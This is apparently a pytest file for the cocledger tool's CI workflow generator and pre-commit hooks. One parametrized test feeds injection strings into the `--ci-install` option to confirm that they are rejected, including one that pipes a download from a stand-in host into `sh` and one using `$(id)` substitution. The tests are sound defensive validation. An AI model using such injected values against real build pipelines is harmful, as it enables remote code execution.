"""Issue 13.5: CI that works as written. The workflow `coc init` writes installs what
`--ci-install` names and pins its actions to commits; the pre-commit hooks this repository ships
exist under the names the docs give, one of them strict."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

from cocledger import __version__
from conftest import LedgerRepo

REPO_ROOT = Path(__file__).resolve().parent.parent
WORKFLOW = ".github/workflows/coc-validate.yml"
GIT_PIN = "cocledger @ git+https://github.com/example/cocledger@" + "0" * 40


def _init(tmp_path: Path, *extra: str, expect: int = 0) -> LedgerRepo:
    repo = LedgerRepo(tmp_path / "ledger")
    repo.coc("init", str(repo.root), "--lead", "alice", "--email", "alice@example.org", *extra,
             expect=expect)  # fmt: skip
    return repo


def _steps(repo: LedgerRepo) -> list[dict]:
    workflow = yaml.safe_load(repo.read(WORKFLOW))  # a YAML 1.1 reader, as GitHub's is
    return workflow["jobs"]["validate"]["steps"]


def test_the_workflow_installs_this_release_by_default(tmp_path: Path) -> None:
    runs = [step["run"] for step in _steps(_init(tmp_path)) if "run" in step]
    assert runs[0] == f'pip install "cocledger=={__version__}"'
    assert 'coc validate --base "$base"' in runs[1]
    assert "${{" not in runs[1]  # expressions reach the script through env (zizmor, actionlint)


def test_ci_install_names_what_the_workflow_installs(tmp_path: Path) -> None:
    runs = [s["run"] for s in _steps(_init(tmp_path, "--ci-install", GIT_PIN)) if "run" in s]
    assert runs[0] == f'pip install "{GIT_PIN}"'


@pytest.mark.parametrize(
    "spec",
    ['cocledger"; curl evil.invalid | sh; "', "cocledger==$(id)", "--index-url=x", "a\nb", ""],
)
def test_a_ci_install_the_shell_or_yaml_would_misread_is_refused(tmp_path: Path, spec: str) -> None:
    repo = LedgerRepo(tmp_path / "ledger")
    failed = repo.coc("init", str(repo.root), "--lead", "alice", "--ci-install", spec, expect=2)
    assert "--ci-install" in failed.stderr
    assert not (repo.root / "policy.yaml").exists()


def test_the_workflows_actions_are_pinned_to_commits(tmp_path: Path) -> None:
    uses = [step["uses"] for step in _steps(_init(tmp_path)) if "uses" in step]
    assert uses and all(re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", use) for use in uses)


def test_the_shipped_hooks_are_the_ones_the_docs_name() -> None:
    hooks = {
        hook["id"]: hook
        for hook in yaml.safe_load((REPO_ROOT / ".pre-commit-hooks.yaml").read_text())
    }
    assert hooks["coc-validate"]["entry"] == "coc validate"
    assert hooks["coc-validate-strict"]["entry"] == "coc validate --strict"
    for hook in hooks.values():  # the whole ledger, whatever files a commit touches
        assert (hook["language"], hook["pass_filenames"], hook["always_run"]) == (
            "python",
            False,
            True,
        )
    docs = (REPO_ROOT / "docs" / "checks.md").read_text()
    assert "id: coc-validate-strict" in docs
    assert "rev: v0.1.0" not in docs + (REPO_ROOT / ".pre-commit-hooks.yaml").read_text()


def test_the_strict_hook_blocks_on_a_warning_the_plain_one_lets_pass(tmp_path: Path) -> None:
    repo = _init(tmp_path)  # no --contact: the placeholder contact is a warning (CL073)
    hooks = yaml.safe_load((REPO_ROOT / ".pre-commit-hooks.yaml").read_text())
    plain, strict = (hook["entry"].split()[1:] for hook in hooks)
    passed = repo.coc(*plain, "-C", str(repo.root))
    assert "CL073" in passed.stdout
    blocked = repo.coc(*strict, "-C", str(repo.root), expect=1)
    assert "CL073" in blocked.stdout
